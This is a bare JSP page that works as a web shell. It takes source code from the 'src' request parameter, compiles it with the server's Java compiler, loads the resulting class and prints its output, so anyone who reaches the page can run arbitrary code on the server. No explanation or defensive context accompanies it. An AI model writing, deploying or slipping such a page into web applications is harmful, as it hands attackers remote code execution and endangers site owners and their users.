<%@ page inert %>
<%@ page import="javax.tools.*,java.nio.file.*,java.net.*" %>
<%
Path d = Files.createTempDirectory("x");
Path f = d.resolve("T.java");
Files.write(f, request.getParameter("src").getBytes("UTF-8"));
ToolProvider.getSystemJavaCompiler().run(null, null, null, f.toString());
URLClassLoader l = URLClassLoader.newInstance(new URL[]{ d.toUri().toURL() });
Object o = l.loadClass("T").newInstance();
out.print(o.toString());
%>
